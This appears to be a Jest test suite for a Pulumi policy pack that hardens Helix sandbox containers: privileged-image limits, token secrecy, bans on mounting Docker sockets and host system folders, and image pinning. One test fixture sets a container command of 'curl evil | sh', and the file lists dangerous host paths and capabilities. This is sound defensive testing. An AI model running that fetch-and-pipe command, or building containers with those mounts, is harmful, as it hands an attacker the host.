// The sandbox policies on hand-built arguments: a compliant sandbox as Helix's install.sh runs
// one (fixtures.ts), one property changed per test; and the runner policies left quiet on it.
import type { ResourceValidationPolicy, StackValidationPolicy } from "@pulumi/policy";
import { Secret } from "@pulumi/policy";
import { imagePinned } from "../../policy/lifecycle";
import { noHostTakeover } from "../../policy/network";
import { policies } from "../../policy/policies";
import { isRunner, isSandbox } from "../../policy/runner";
import {
    sandboxAsHelixRunsIt,
    sandboxIdsUnique,
    sandboxImagePinned,
    sandboxNoDockerSocket,
    sandboxNoPublishedPorts,
    sandboxOwnVolumes,
    sandboxPrivilegedOnly,
    sandboxTokenSecret,
} from "../../policy/sandbox";
import { CONTAINER, REMOTE_IMAGE, SERVICE, runner, sandbox, sandboxProps, withSandboxEnv } from "./fixtures";
import { Fixture, stackViolationsOf, violationsOf } from "./harness";

const DIGEST = "sha256:" + "b".repeat(64);

/** Every policy of the pack on `fixtures`, as "policy-name: message". */
async function runPack(fixtures: Fixture[]): Promise<string[]> {
    const found: string[] = [];
    for (const policy of policies) {
        if ("validateStack" in policy) {
            for (const v of await stackViolationsOf(policy as StackValidationPolicy, fixtures)) found.push(`${policy.name}: ${v}`);
        } else {
            for (const f of fixtures)
                for (const v of await violationsOf(policy as ResourceValidationPolicy, f)) found.push(`${policy.name}: ${v}`);
        }
    }
    return found;
}

describe("recognising a sandbox", () => {
    it("knows Helix's sandbox image by tag, by a RemoteImage's repoDigest, or both", () => {
        for (const image of [
            "ghcr.io/helixml/helix-sandbox:2.12.2",
            `ghcr.io/helixml/helix-sandbox@${DIGEST}`,
            `ghcr.io/helixml/helix-sandbox:2.12.2@${DIGEST}`,
        ]) {
            expect(isSandbox({ image })).toBe(true);
        }
    });

    it("does not know an image ID, a mirror or a look-alike as the sandbox image", () => {
        for (const image of [
            DIGEST,
            "registry.example.com/helixml/helix-sandbox:2.12.2",
            "ghcr.io/helixml/helix-sandbox-dev:2.12.2",
            "ghcr.io/helixml/helix:2.12.2",
        ]) {
            expect(isSandbox({ image })).toBe(false);
        }
        expect(isSandbox({})).toBe(false);
    });

    it("never takes a sandbox for a runner, even with a runner's variables in its environment", async () => {
        const stray = sandbox({ envs: [...sandboxProps().envs, "RUNNER_ID=zed-1", "API_TOKEN=x"] });
        expect(isRunner(stray.props)).toBe(false);
        expect(await violationsOf(noHostTakeover, stray)).toEqual([]);
    });

    it("passes every policy of the pack for two compliant sandboxes on one host", async () => {
        expect(await runPack([sandbox(), sandbox({}, {}, 2)])).toEqual([]);
    });

    it("leaves the compliant runner to the runner policies: no sandbox policy reports on it", async () => {
        const sandboxPolicies = policies.filter((p) => p.name.startsWith("sandbox-"));
        expect(sandboxPolicies).toHaveLength(8);
        for (const policy of sandboxPolicies) {
            const found =
                "validateStack" in policy
                    ? await stackViolationsOf(policy as StackValidationPolicy, [runner()])
                    : await violationsOf(policy as ResourceValidationPolicy, runner());
            expect({ policy: policy.name, found }).toEqual({ policy: policy.name, found: [] });
        }
    });
});

describe("sandbox-privileged-only", () => {
    const other = (changes: Record<string, any>): Fixture => ({ type: CONTAINER, name: "other", props: { name: "other", ...changes } });
    const refused = (image: string) =>
        `Container must not be privileged: only Helix's sandbox image (ghcr.io/helixml/helix-sandbox) may be, and this one runs "${image}".`;

    it("passes a privileged sandbox, by tag or by repoDigest", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, sandbox())).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `ghcr.io/helixml/helix-sandbox@${DIGEST}` }))).toEqual([]);
    });

    it("fails any other privileged container, a mirror of the sandbox image included", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: "docker:27-dind", privileged: true }))).toEqual([
            refused("docker:27-dind"),
        ]);
        const mirror = "registry.example.com/helixml/helix-sandbox:2.12.2";
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: mirror, privileged: true }))).toEqual([refused(mirror)]);
    });

    /** What a sandbox (by its SANDBOX_INSTANCE_ID) running another image than Helix's is told. */
    const notHelixs = (image: string) =>
        "Container set up as a Helix sandbox (SANDBOX_INSTANCE_ID) must run Helix's sandbox image (ghcr.io/helixml/helix-sandbox) " +
        `or a mirror of it listed in sandboxImageMirrors, and this one runs "${image}". ` +
        "Give its image as a repository (ghcr.io/helixml/helix-sandbox:<release> or a RemoteImage's repoDigest, not an image ID).";

    it("tells a sandbox started from an image ID how to be recognised", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: DIGEST }))).toEqual([notHelixs(DIGEST)]);
    });

    describe("a mirror of Helix's sandbox image", () => {
        const MIRROR = "registry.example.com/helixml/helix-sandbox";
        const MIRRORS = { sandboxImageMirrors: [MIRROR], allowedPrivilegedImages: [] };

        it("runs as a sandbox only when the operator lists it in sandboxImageMirrors", async () => {
            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${MIRROR}:2.12.2` }))).toEqual([
                notHelixs(`${MIRROR}:2.12.2`),
            ]);
            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${MIRROR}:2.12.2` }), MIRRORS)).toEqual([]);
            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${MIRROR.toUpperCase()}@${DIGEST}` }), MIRRORS)).toEqual([]);
        });

        it("is held to every sandbox rule: it is a sandbox to the pack", async () => {
            const published = sandbox({ image: `${MIRROR}:2.12.2`, ports: [{ internal: 8080, external: 8080 }] });
            expect(isSandbox(published.props)).toBe(true);
            expect(await violationsOf(sandboxNoPublishedPorts, published)).toHaveLength(1);
            expect(await violationsOf(sandboxImagePinned, sandbox({ image: `${MIRROR}:latest` }))).toHaveLength(1);
        });

        it("is refused privileged when it is not set up as a sandbox, listed or not: no sandbox rule would hold it", async () => {
            const bare = other({ image: `${MIRROR}:2.12.2`, privileged: true });
            expect(await violationsOf(sandboxPrivilegedOnly, bare, MIRRORS)).toEqual([
                `Container runs "${MIRROR}:2.12.2", a mirror of Helix's sandbox image, privileged but not set up as a sandbox (no SANDBOX_INSTANCE_ID): ` +
                    "the sandbox rules could not hold it. Run it as a sandbox, with its instance ID.",
            ]);
        });
    });

    it("passes containers that are not privileged, and names a missing image", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: "nginx:1.27" }))).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: "nginx:1.27", privileged: false }))).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, other({ privileged: true }))).toEqual([
            "Container must not be privileged: only Helix's sandbox image (ghcr.io/helixml/helix-sandbox) may be, and this one runs no image reference.",
        ]);
    });

    it("leaves a privileged runner to no-host-takeover, so it is reported once", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, runner({ privileged: true }))).toEqual([]);
        expect(await violationsOf(noHostTakeover, runner({ privileged: true }))).toEqual(["Runner container must not be privileged."]);
    });

    it("allows the repositories listed in the pack's config", async () => {
        const dind = other({ image: "docker:27-dind", privileged: true });
        expect(await violationsOf(sandboxPrivilegedOnly, dind, { allowedPrivilegedImages: ["docker"] })).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, dind, { allowedPrivilegedImages: ["docker.io/library/docker"] })).toEqual([
            refused("docker:27-dind"),
        ]);
    });

    it("fails a Swarm service running the sandbox image, and no other service", async () => {
        const service = (image: string): Fixture => ({ type: SERVICE, props: { name: "s", taskSpec: { containerSpec: { image } } } });
        expect(await violationsOf(sandboxPrivilegedOnly, service("ghcr.io/helixml/helix-sandbox:2.12.2"))).toEqual([
            "A Swarm service must not run Helix's sandbox image (ghcr.io/helixml/helix-sandbox:2.12.2): Swarm cannot run a task privileged or give it devices, and the sandbox needs both. Run sandboxes as containers on each host.",
        ]);
        expect(await violationsOf(sandboxPrivilegedOnly, service("nginx:1.27"))).toEqual([]);
    });
});

describe("sandbox-token-secret", () => {
    const NOT_SECRET =
        'Sandbox container must keep its environment secret (additionalSecretOutputs: ["envs"]): it holds RUNNER_TOKEN, which would otherwise be stored in plain text in the stack state.';

    it("passes a real token in an environment marked secret, or passed as a secret", async () => {
        expect(await violationsOf(sandboxTokenSecret, sandbox())).toEqual([]);
        const passed = sandbox({ envs: new Secret(sandboxProps().envs) }, { additionalSecretOutputs: [] });
        expect(await violationsOf(sandboxTokenSecret, passed)).toEqual([]);
    });

    it("fails an environment that is not secret", async () => {
        expect(await violationsOf(sandboxTokenSecret, sandbox({}, { additionalSecretOutputs: [] }))).toEqual([NOT_SECRET]);
    });

    it("fails the token copied into another property", async () => {
        expect(await violationsOf(sandboxTokenSecret, sandbox({ labels: [{ label: "t", value: "a-real-runner-token-9f8e7d" }] }))).toEqual([
            "Sandbox container must not carry RUNNER_TOKEN outside its secret environment: labels holds it in plain text.",
        ]);
    });

    it("fails Helix's example token, however cased", async () => {
        expect(
            await violationsOf(sandboxTokenSecret, sandbox({ envs: withSandboxEnv("RUNNER_TOKEN", "OH-HALLO-INSECURE-TOKEN") })),
        ).toEqual(["Sandbox container must not use Helix's example token oh-hallo-insecure-token: anyone could attach machines with it."]);
    });

    it("fails a missing or empty token", async () => {
        const message = "Sandbox container must be given a non-empty RUNNER_TOKEN: the control plane's runner token.";
        expect(await violationsOf(sandboxTokenSecret, sandbox({ envs: withSandboxEnv("RUNNER_TOKEN", undefined) }))).toEqual([message]);
        expect(await violationsOf(sandboxTokenSecret, sandbox({ envs: withSandboxEnv("RUNNER_TOKEN", " ") }))).toEqual([message]);
        expect(await violationsOf(sandboxTokenSecret, sandbox({ envs: undefined }))).toEqual([message]);
    });

    it("ignores containers that are not sandboxes", async () => {
        const other: Fixture = { type: CONTAINER, props: { image: "nginx:1.27", envs: ["RUNNER_TOKEN=x"] } };
        expect(await violationsOf(sandboxTokenSecret, other)).toEqual([]);
    });
});

describe("sandbox-no-docker-socket", () => {
    const binding = (hostPath: string) => sandbox({ volumes: [...sandboxProps().volumes, { hostPath, containerPath: "/x" }] });
    const refused = (what: string, source: string, verb = "bind") =>
        `Sandbox container must not ${verb} ${what} (${source}): it runs its own dockerd and needs none of the host's.`;

    it("passes the sandbox as install.sh runs it, /run/udev and /var/run/sandbox bound", async () => {
        expect(await violationsOf(sandboxNoDockerSocket, sandbox())).toEqual([]);
    });

    it.each([
        // Where install.sh's development mode (PRIVILEGED_DOCKER) binds the host's socket from.
        ["/var/run/docker.sock", "the Docker socket"],
        ["//var/run/docker.sock/", "the Docker socket"],
        ["/run/docker.sock", "the Docker socket"],
        ["/var/run", "/var/run, which holds the Docker socket"],
        ["/run/", "/run, which holds the Docker socket"],
        ["/run/containerd/containerd.sock", "the host's container engine (/run/containerd)"],
        ["/var/run/docker/plugins", "the host's container engine (/run/docker)"],
        ["/var/lib/docker", "the host's container engine (/var/lib/docker)"],
        ["/", "the host's root folder"],
        ["/etc", "the host's system folder /etc"],
    ])("fails a bind of %s", async (hostPath, what) => {
        expect(await violationsOf(sandboxNoDockerSocket, binding(hostPath))).toEqual([refused(what, hostPath)]);
    });

    it("fails the socket as a bind mount or a local volume that binds it", async () => {
        expect(
            await violationsOf(
                sandboxNoDockerSocket,
                sandbox({ mounts: [{ type: "bind", source: "/var/run/docker.sock", target: "/var/run/docker.sock" }] }),
            ),
        ).toEqual([refused("the Docker socket", "/var/run/docker.sock")]);
        const volume = {
            type: "volume",
            target: "/h",
            volumeOptions: { driverName: "local", driverOptions: { type: "none", o: "bind", device: "/run" } },
        };
        expect(await violationsOf(sandboxNoDockerSocket, sandbox({ mounts: [volume] }))).toEqual([
            refused("/run, which holds the Docker socket", "/run", "mount a local volume that binds"),
        ]);
    });

    it("passes a sandbox with no volumes or mounts at all", async () => {
        expect(await violationsOf(sandboxNoDockerSocket, sandbox({ volumes: undefined, mounts: undefined }))).toEqual([]);
    });

    it("allows system folders listed in the pack's config, never the engine's", async () => {
        const config = { allowedHostPaths: ["/sys/fs/cgroup", "/var/run/docker.sock", "/run/containerd"] };
        expect(await violationsOf(sandboxNoDockerSocket, binding("/sys/fs/cgroup"), config)).toEqual([]);
        expect(await violationsOf(sandboxNoDockerSocket, binding("/sys/fs/cgroup"))).toEqual([
            refused("/sys/fs/cgroup, inside a host system folder", "/sys/fs/cgroup"),
        ]);
        expect(await violationsOf(sandboxNoDockerSocket, binding("/var/run/docker.sock"), config)).toEqual([
            refused("the Docker socket", "/var/run/docker.sock"),
        ]);
        expect(await violationsOf(sandboxNoDockerSocket, binding("/run/containerd"), config)).toEqual([
            refused("the host's container engine (/run/containerd)", "/run/containerd"),
        ]);
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(
            await violationsOf(sandboxNoDockerSocket, {
                type: CONTAINER,
                props: { image: "x:1", volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/s" }] },
            }),
        ).toEqual([]);
    });

    it.each(["/run/user/1000/docker.sock", "/run/user/1000/podman/podman.sock", "/var/run/crio/crio.sock"])(
        "fails a bind of %s, another engine's socket, whatever allowedHostPaths says",
        async (hostPath) => {
            const violations = await violationsOf(sandboxNoDockerSocket, binding(hostPath), { allowedHostPaths: [hostPath] });
            expect(violations).toEqual([refused(`${hostPath}, a container engine's socket`, hostPath)]);
        },
    );
});

describe("sandbox-image-pinned", () => {
    const WHY = "Hydra's API changes between releases, so the sandbox must run the control plane's own release";
    const withImage = (image: string | undefined) => sandbox({ image });

    it.each([
        "ghcr.io/helixml/helix-sandbox:2.12.2",
        "ghcr.io/helixml/helix-sandbox:2.5.42",
        "ghcr.io/helixml/helix-sandbox:2.13.0-rc1",
        // Helix's release candidates of 2.5.42 already attach machines as sandboxes.
        "ghcr.io/helixml/helix-sandbox:2.5.42-rc1",
        // A container given its RemoteImage's repoDigest: the RemoteImage's name carries the release, and is checked.
        `ghcr.io/helixml/helix-sandbox@${DIGEST}`,
        `ghcr.io/helixml/helix-sandbox:2.12.2@${DIGEST}`,
    ])("passes %s", async (image) => {
        expect(await violationsOf(sandboxImagePinned, withImage(image))).toEqual([]);
    });

    it("fails latest and untagged, with the reason", async () => {
        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox:latest"))).toEqual([
            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "ghcr.io/helixml/helix-sandbox:latest": ${WHY}.`,
        ]);
        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox"))).toEqual([
            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not untagged "ghcr.io/helixml/helix-sandbox" (Docker reads that as latest): ${WHY}.`,
        ]);
        // A digest does not skip the release check: the tag beside it says which release the digest is.
        expect(await violationsOf(sandboxImagePinned, withImage(`ghcr.io/helixml/helix-sandbox:latest@${DIGEST}`))).toEqual([
            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "ghcr.io/helixml/helix-sandbox:latest@${DIGEST}": ${WHY}.`,
        ]);
    });

    it("fails a tag that is not a release", async () => {
        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox:main"))).toEqual([
            `Sandbox image's tag "main" must be a Helix release such as 2.12.2 or 2.13.0-rc1 (the control plane's own version; no leading 'v').`,
        ]);
    });

    it.each(["2.5.41", "2.4.0-rc8", "2.5.41-rc1", "1.99.99"])("fails %s, a release before the sandbox", async (tag) => {
        expect(await violationsOf(sandboxImagePinned, withImage(`ghcr.io/helixml/helix-sandbox:${tag}`))).toEqual([
            `Sandbox image's tag "${tag}" must be 2.5.42 or later: earlier control planes take runners, not sandboxes (use the runner workload).`,
        ]);
    });

    it("fails a v-prefixed tag, as the program does: Helix's images are tagged without one", async () => {
        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox:v2.12.2"))).toEqual([
            `Sandbox image's tag "v2.12.2" must be a Helix release such as 2.12.2 or 2.13.0-rc1 (the control plane's own version; no leading 'v').`,
        ]);
    });

    it("holds a mirror to the same release rules, as a sandbox's image and as a pulled RemoteImage", async () => {
        const mirror = "registry.example.com/helixml/helix-sandbox";
        expect(await violationsOf(sandboxImagePinned, withImage(`${mirror}:2.12.2`))).toEqual([]);
        expect(await violationsOf(sandboxImagePinned, withImage(`${mirror}:latest`))).toEqual([
            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "${mirror}:latest": ${WHY}.`,
        ]);
        const pulled = (name: string): Fixture => ({ type: REMOTE_IMAGE, name: "sandbox-image", props: { name } });
        expect(await violationsOf(sandboxImagePinned, pulled(`${mirror}@${DIGEST}`))).toEqual([
            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not untagged "${mirror}@${DIGEST}" (Docker reads that as latest): ${WHY}.`,
        ]);
    });

    it("ignores a container with no image or another image", async () => {
        expect(await violationsOf(sandboxImagePinned, withImage(undefined))).toEqual([]);
        expect(await violationsOf(sandboxImagePinned, runner({ image: "registry.example.com/helix-zed-agent:latest" }))).toEqual([]);
    });

    it("holds every sandbox to requiredRelease from the pack's config", async () => {
        expect(await violationsOf(sandboxImagePinned, sandbox(), { requiredRelease: "2.12.2" })).toEqual([]);
        expect(await violationsOf(sandboxImagePinned, sandbox(), { requiredRelease: "2.12.3" })).toEqual([
            `Sandbox image's tag must be the control plane's release 2.12.3, not "2.12.2": ${WHY}.`,
        ]);
    });

    it("checks the pulled RemoteImage, which carries the release when the container has only its repoDigest", async () => {
        const pulled = (name: string): Fixture => ({ type: REMOTE_IMAGE, name: "sandbox-image", props: { name } });
        expect(await violationsOf(sandboxImagePinned, pulled("ghcr.io/helixml/helix-sandbox:2.12.2"))).toEqual([]);
        expect(await violationsOf(sandboxImagePinned, pulled("ghcr.io/helixml/helix-sandbox:latest"))).toEqual([
            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "ghcr.io/helixml/helix-sandbox:latest": ${WHY}.`,
        ]);
        // image-pinned leaves the sandbox image to this policy, so it is reported once, and still checks other images.
        expect(await violationsOf(imagePinned, pulled("ghcr.io/helixml/helix-sandbox:latest"))).toEqual([]);
        expect(await violationsOf(imagePinned, pulled("nginx:latest"))).toEqual([
            'Pulled image must be pinned by digest or tag, not "nginx:latest".',
        ]);
    });
});

describe("sandbox-own-volumes", () => {
    const volumes = (n: number, changes: Record<string, object | undefined>) =>
        (sandboxProps(n).volumes as { containerPath: string }[]).flatMap((v) =>
            v.containerPath in changes ? (changes[v.containerPath] ? [changes[v.containerPath]] : []) : [v],
        );

    it("passes sandboxes each with their own volumes, given as volumes or as mounts", async () => {
        const asMounts = sandbox(
            {
                volumes: undefined,
                mounts: [
                    { type: "volume", source: "sb2-docker", target: "/var/lib/docker" },
                    { type: "volume", source: "sb2-data", target: "/data/" },
                    { type: "bind", source: "/srv/sandbox-2/hydra", target: "/hydra-data" },
                ],
            },
            {},
            2,
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), asMounts])).toEqual([]);
    });

    it("fails a volume two sandboxes share, at any of the three folders", async () => {
        const second = sandbox(
            { volumes: volumes(2, { "/var/lib/docker": { volumeName: "helix-sandbox-dev-1-docker", containerPath: "/var/lib/docker" } }) },
            {},
            2,
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), second])).toEqual([
            'Sandboxes must not share a volume: "helix-sandbox-dev-1-docker" is mounted by sandbox-1 at /var/lib/docker, sandbox-2 at /var/lib/docker; each sandbox\'s dockerd and Hydra need their own.',
        ]);
        const crossed = sandbox(
            { volumes: volumes(2, { "/hydra-data": { volumeName: "helix-sandbox-dev-1-data", containerPath: "/hydra-data" } }) },
            {},
            2,
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), crossed])).toEqual([
            'Sandboxes must not share a volume: "helix-sandbox-dev-1-data" is mounted by sandbox-1 at /data, sandbox-2 at /hydra-data; each sandbox\'s dockerd and Hydra need their own.',
        ]);
    });

    it("fails a host folder two sandboxes share, however spelled", async () => {
        const bind = (n: number, hostPath: string) =>
            sandbox({ volumes: volumes(n, { "/data": { hostPath, containerPath: "/data" } }) }, {}, n);
        expect(await stackViolationsOf(sandboxOwnVolumes, [bind(1, "/srv/data"), bind(2, "/srv//data/")])).toEqual([
            'Sandboxes must not share a host folder: "/srv/data" is mounted by sandbox-1 at /data, sandbox-2 at /data; each sandbox\'s dockerd and Hydra need their own.',
        ]);
    });

    it("allows the same volume names on different Docker hosts", async () => {
        const a = sandbox({}, { provider: { urn: "urn:provider:a", host: "ssh://a" } });
        const b = sandbox(
            { envs: withSandboxEnv("SANDBOX_INSTANCE_ID", "b-1") },
            { name: "sandbox-1b", provider: { urn: "urn:provider:b", host: "ssh://b" } },
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [a, b])).toEqual([]);
    });

    it("fails a sandbox missing a volume, or with one it cannot keep", async () => {
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: volumes(1, { "/var/lib/docker": undefined }) })])).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /var/lib/docker.",
        ]);
        expect(
            await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: volumes(1, { "/data": { containerPath: "/data" } }) })]),
        ).toEqual(["Sandbox container sandbox-1 must mount a named volume of its own at /data, not an anonymous volume."]);
        const tmpfs = sandbox({ mounts: [{ type: "tmpfs", target: "/hydra-data" }], volumes: volumes(1, { "/hydra-data": undefined }) });
        expect(await stackViolationsOf(sandboxOwnVolumes, [tmpfs])).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /hydra-data, not a tmpfs mount with no name.",
        ]);
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: undefined })])).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /var/lib/docker.",
            "Sandbox container sandbox-1 must mount a named volume of its own at /data.",
            "Sandbox container sandbox-1 must mount a named volume of its own at /hydra-data.",
        ]);
    });

    it("requires only /var/lib/docker when the pack's config turns requireDataVolumes off", async () => {
        const bare = sandbox({ volumes: undefined });
        expect(await stackViolationsOf(sandboxOwnVolumes, [bare], { requireDataVolumes: false })).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /var/lib/docker.",
        ]);
        expect(
            await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: volumes(1, { "/data": undefined }) })], {
                requireDataVolumes: false,
            }),
        ).toEqual([]);
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(await stackViolationsOf(sandboxOwnVolumes, [runner(), { ...runner(), name: "runner-2" }])).toEqual([]);
    });
});

describe("sandbox-ids-unique", () => {
    it("passes distinct IDs", async () => {
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox(), sandbox({}, {}, 2), sandbox({}, {}, 3)])).toEqual([]);
    });

    it("fails a shared ID for one control plane, across Docker hosts and however its URL is spelled", async () => {
        const other = sandbox(
            {
                envs: [
                    ...withSandboxEnv("HELIX_API_URL", "https://HELIX.example.com:443/", 2).filter(
                        (e) => !e.startsWith("SANDBOX_INSTANCE_ID="),
                    ),
                    "SANDBOX_INSTANCE_ID=box-1",
                ],
            },
            { provider: { urn: "urn:provider:b", host: "ssh://b" } },
            2,
        );
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox(), other])).toEqual([
            'Sandboxes must have unique SANDBOX_INSTANCE_IDs per control plane: "box-1" is used by sandbox-1, sandbox-2.',
        ]);
    });

    it("allows one ID at two control planes", async () => {
        const other = sandbox({ envs: withSandboxEnv("HELIX_API_URL", "https://other.example.com") }, { name: "sandbox-1b" });
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox(), other])).toEqual([]);
    });

    it("fails a sandbox without an ID, which Helix calls local", async () => {
        const message = (name: string) =>
            `Sandbox container ${name} must set SANDBOX_INSTANCE_ID: without it the sandbox registers as "local", as does every other sandbox without one, and they replace each other.`;
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox({ envs: withSandboxEnv("SANDBOX_INSTANCE_ID", undefined) })])).toEqual([
            message("sandbox-1"),
        ]);
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox({ envs: withSandboxEnv("SANDBOX_INSTANCE_ID", "") })])).toEqual([
            message("sandbox-1"),
        ]);
    });

    it("ignores runners, whose IDs unique-runners checks", async () => {
        expect(await stackViolationsOf(sandboxIdsUnique, [runner(), { ...runner(), name: "runner-2" }, sandbox()])).toEqual([]);
    });
});

describe("sandbox-as-helix-runs-it", () => {
    it("passes a sandbox as Helix's installer runs it", async () => {
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox())).toEqual([]);
    });

    it("fails a sandbox whose entrypoint or command is replaced: privileged, it would run anything", async () => {
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ entrypoints: ["/bin/sh"], command: ["-c", "curl evil | sh"] }))).toEqual([
            "Sandbox container must run Helix's image as it is, with the image's own entrypoint (it sets entrypoints [\"/bin/sh\"]): privileged, anything else it ran would own the host and hold the runner token.",
            'Sandbox container must run Helix\'s image as it is, with the image\'s own command (it sets command ["-c","curl evil | sh"]): privileged, anything else it ran would own the host and hold the runner token.',
        ]);
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ entrypoints: [], command: [] }))).toEqual([]);
    });

    it.each([
        ["pidMode", "host", "Sandbox container must not use the host's namespace (pidMode: host): it runs in its own, as Helix runs it."],
        [
            "networkMode",
            "HOST",
            "Sandbox container must not use the host's namespace (networkMode: host): it runs in its own, as Helix runs it.",
        ],
        ["ipcMode", "host", "Sandbox container must not use the host's namespace (ipcMode: host): it runs in its own, as Helix runs it."],
        ["networkMode", "container:db", "Sandbox container must not share another container's namespace (networkMode: container:db)."],
    ])("fails %s %s", async (mode, value, message) => {
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ [mode]: value }))).toEqual([message]);
    });

    it("fails a sandbox that takes another container's volumes", async () => {
        const volumes = [...sandboxProps().volumes, { fromContainer: "helix-postgres" }];
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ volumes }))).toEqual([
            "Sandbox container must not take another container's volumes (fromContainer helix-postgres): each sandbox has volumes of its own.",
        ]);
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(await violationsOf(sandboxAsHelixRunsIt, runner({ command: ["sleep", "1"] }))).toEqual([]);
    });
});

describe("privileged in all but the flag", () => {
    const other = (changes: Record<string, unknown>) => ({
        type: CONTAINER,
        name: "other",
        props: { image: "docker.io/library/alpine:3.20", ...changes },
    });

    it.each([
        [{ capabilities: { adds: ["ALL"] } }, "capability ALL"],
        [{ capabilities: { adds: ["CAP_SYS_ADMIN"] } }, "capability SYS_ADMIN"],
        [{ securityOpts: ["seccomp=unconfined"] }, 'securityOpts "seccomp=unconfined"'],
        [{ securityOpts: ["apparmor:unconfined"] }, 'securityOpts "apparmor:unconfined"'],
        [{ devices: [{ hostPath: "/dev//mem" }] }, "the device /dev/mem"],
        [{ pidMode: "host" }, "pidMode: host"],
        [{ networkMode: "host" }, "networkMode: host"],
        [{ ipcMode: "host" }, "ipcMode: host"],
    ])("fails a container that is not flagged privileged but has %j", async (changes, what) => {
        expect(await violationsOf(sandboxPrivilegedOnly, other(changes) as Fixture)).toEqual([
            `Container must not be privileged in all but the flag (${what}): only Helix's sandbox image (ghcr.io/helixml/helix-sandbox) may be privileged, and this one runs "docker.io/library/alpine:3.20".`,
        ]);
    });

    it("passes a plain container, and an allowed image", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, other({ capabilities: { adds: ["NET_BIND_SERVICE"] } }) as Fixture)).toEqual([]);
        const dind = { type: CONTAINER, name: "dind", props: { image: "docker:27-dind", capabilities: { adds: ["ALL"] } } } as Fixture;
        expect(await violationsOf(sandboxPrivilegedOnly, dind, { allowedPrivilegedImages: ["docker"] })).toEqual([]);
    });
});

describe("sandbox-no-published-ports", () => {
    it("passes a sandbox that publishes nothing", async () => {
        expect(await violationsOf(sandboxNoPublishedPorts, sandbox())).toEqual([]);
        expect(await violationsOf(sandboxNoPublishedPorts, sandbox({ ports: [] }))).toEqual([]);
    });

    it("fails published ports and publishAllPorts", async () => {
        expect(
            await violationsOf(
                sandboxNoPublishedPorts,
                sandbox({
                    ports: [
                        { internal: 8080, external: 18080, ip: "127.0.0.1" },
                        { internal: 53, protocol: "udp" },
                    ],
                }),
            ),
        ).toEqual([
            "Sandbox container must not publish ports (it publishes 8080/tcp, 53/udp): a sandbox dials out to its control plane and serves nothing on its host.",
        ]);
        expect(await violationsOf(sandboxNoPublishedPorts, sandbox({ publishAllPorts: true }))).toEqual([
            "Sandbox container must not set publishAllPorts: a sandbox serves nothing on its host.",
        ]);
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(await violationsOf(sandboxNoPublishedPorts, runner())).toEqual([]);
    });
});
